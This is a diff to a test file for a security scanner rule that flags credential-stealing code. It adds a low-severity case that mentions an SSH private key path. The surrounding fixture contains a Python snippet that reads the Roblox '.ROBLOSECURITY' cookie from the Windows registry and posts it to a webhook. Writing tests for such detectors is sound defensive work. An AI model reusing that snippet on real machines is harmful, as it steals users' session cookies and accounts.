@@ -33,5 +33,11 @@ ruleTest(rule, {
       code: `import requests\nfrom winreg import OpenKey, HKEY_CURRENT_USER\nk = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\Roblox\\RobloxStudioBrowser\\roblox.com")\nif name == ".ROBLOSECURITY":\n    requests.post(hook, json={"c": value})\n`,
       findings: [{ line: 4, severity: 'high', confidence: 'medium' }],
     },
+    {
+      name: 'two weak categories stay low',
+      file: 'deploy.py',
+      code: `KEY = "~/.ssh/id_rsa"\nfields = ["seed"]\n`,
+      findings: [{ line: 1, severity: 'medium', confidence: 'low' }],
+    },
   ],
 });
